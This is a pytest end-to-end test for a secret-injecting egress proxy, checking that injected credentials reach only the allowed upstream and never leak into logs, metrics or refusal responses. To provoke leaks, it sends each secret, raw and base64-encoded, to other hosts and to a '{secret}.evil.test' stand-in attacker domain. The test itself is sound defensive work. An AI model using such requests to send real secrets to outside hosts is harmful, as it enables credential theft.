"""End to end: the transform secrets reach the upstream and nothing else (docs/configuration.md#transform).

Runs after every other end-to-end test (see `conftest.py`), so it scans everything the
proxy wrote during the session: its stdout and stderr, the audit log, /metrics, every
response header the sandbox saw, every refusal body. It first sends the traffic most
likely to leak, so it also stands alone.
"""

from __future__ import annotations

import base64

import pytest

from testbed.expect import Observed, header_values
from testbed.harness import Harness

pytestmark = pytest.mark.netns


def provoke(harness: Harness) -> None:
    harness.https("api.allowed.test:443", "/echo-header?name=Authorization")
    harness.https("api.allowed.test:443", "/echo-header?name=X-Api-Key")
    harness.plain("http://plain.allowed.test/echo-header?name=X-Plain-Token")
    harness.plain("http://api.allowed.test/plaintext")  # plaintext_credentials
    harness.https("other.allowed.test:443", "/front", host="api.allowed.test")  # host_mismatch
    harness.https("api.allowed.test:443", "/x", host="user@api.allowed.test")  # bad_request
    harness.connect("ports.allowed.test:443")
    for secret in harness.secrets:  # issue 43: what the sandbox sends is audited masked
        harness.https("other.allowed.test:443", f"/leak/{secret}?{secret}=1")  # secret_elsewhere
        harness.https("other.allowed.test:443", "/leak/" + _base64(secret))
        harness.plain(f"http://other.allowed.test/leak/{secret}")
        harness.connect(f"{secret}.evil.test:443")  # not_allowed: the host is the sandbox's


def _base64(secret: str) -> str:
    return base64.urlsafe_b64encode(secret.encode()).decode().rstrip("=")


def spellings(secret: str) -> list[str]:
    """The secret, and its base64 (standard and URL-safe, without the last characters,
    which a neighbour's bits may change)."""
    return [secret, base64.b64encode(secret.encode()).decode()[:-4], _base64(secret)[:-3]]


def test_secrets_reach_the_upstream_and_nothing_else(harness: Harness, obs: Observed):
    provoke(harness)
    received = [v for r in obs.requests() for v in header_values(r, "Authorization")]
    assert f"Bearer {harness.secrets[0]}" in received  # the scan below is not vacuous

    places: dict[str, str] = {
        "proxy stdout": harness.proxy_stdout.read_text(errors="replace"),
        "proxy stderr": harness.proxy_stderr.read_text(errors="replace"),
        "audit log": harness.audit_log.path.read_text(errors="replace"),
        "/metrics": harness.metrics_text(),
    }
    for i, response in enumerate(harness.responses):
        places[f"response {i} headers"] = repr(response.headers)
        if response.header_all("X-Egress-Denied") or response.status >= 400:
            places[f"response {i} refusal body"] = response.body.decode(errors="replace")

    for secret in harness.secrets:
        leaked = [where for where, text in places.items() for s in spellings(secret) if s in text]
        assert leaked == [], f"secret found in: {leaked}"


def test_no_trap_was_ever_reached(harness: Harness):
    traps = harness.trap_log.since(harness.trap_baseline)
    traps += [
        e for e in harness.upstream_log.since(harness.upstream_baseline) if e["event"] == "trap"
    ]
    assert traps == [], traps


def test_proxy_logged_no_exception(harness: Harness):
    # Every request of the session went through; an addon error or a traceback in the
    # proxy's own output is a bug even when the traffic looked right.
    for path in (harness.proxy_stdout, harness.proxy_stderr):
        text = path.read_text(errors="replace")
        bad = [line for line in text.splitlines() if "Traceback" in line or "Addon error" in line]
        assert bad == [], f"{path.name}: {len(bad)} error lines, first: {text[:1500]}"
